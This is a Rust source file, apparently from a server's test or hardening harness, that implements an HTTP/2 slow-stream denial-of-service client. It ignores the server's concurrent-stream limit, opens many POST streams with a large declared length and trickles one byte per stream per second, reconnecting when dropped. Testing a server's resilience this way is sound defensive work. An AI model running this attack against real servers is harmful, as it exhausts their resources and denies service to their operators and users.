//! A hand-written HTTP/2 client for the slow-stream attack: it opens as many
//! streams as it likes (ignoring the server's SETTINGS_MAX_CONCURRENT_STREAMS,
//! as an attacker would) and trickles their bodies.

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::net::{Proto, Target};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len();
    let mut out = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// HPACK "literal header field without indexing, new name" (short strings only).
fn header(block: &mut Vec<u8>, name: &str, value: &str) {
    block.push(0);
    block.push(name.len() as u8);
    block.extend_from_slice(name.as_bytes());
    block.push(value.len() as u8);
    block.extend_from_slice(value.as_bytes());
}

/// Opens `streams` POST /mutate streams declaring `length` bytes on one
/// connection, sends `first` bytes of each, then one byte per stream per
/// second until `until`. Returns how many connections were used (the server
/// may close them).
pub async fn slow_streams(
    target: &Target,
    streams: u32,
    length: usize,
    first: usize,
    until: tokio::time::Instant,
) -> u32 {
    let mut connections = 0;
    while tokio::time::Instant::now() < until {
        connections += 1;
        let Ok(mut tls) = target.tls(Proto::H2).await else {
            tokio::time::sleep(std::time::Duration::from_millis(100)).await;
            continue;
        };
        let mut out = PREFACE.to_vec();
        out.extend(frame(4, 0, 0, &[]));
        let mut block = Vec::new();
        for (name, value) in [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", "/mutate"),
            (":authority", "localhost"),
            ("content-type", "application/json"),
            ("content-length", &length.to_string()),
        ] {
            header(&mut block, name, value);
        }
        let ids: Vec<u32> = (0..streams).map(|i| 2 * i + 1).collect();
        for id in &ids {
            out.extend(frame(1, 0x4, *id, &block));
            out.extend(frame(0, 0, *id, &vec![b' '; first]));
        }
        if tls.write_all(&out).await.is_err() {
            continue;
        }
        let (mut read, mut write) = tokio::io::split(tls);
        let drain = tokio::spawn(async move {
            let mut buf = vec![0; 16 * 1024];
            while let Ok(n) = read.read(&mut buf).await {
                if n == 0 {
                    break;
                }
            }
        });
        let mut sent = first;
        while tokio::time::Instant::now() < until && sent + 1 < length && !drain.is_finished() {
            tokio::time::sleep(std::time::Duration::from_secs(1)).await;
            let mut tick = Vec::new();
            for id in &ids {
                tick.extend(frame(0, 0, *id, b" "));
            }
            if write.write_all(&tick).await.is_err() {
                break;
            }
            sent += 1;
        }
        drain.abort();
    }
    connections
}
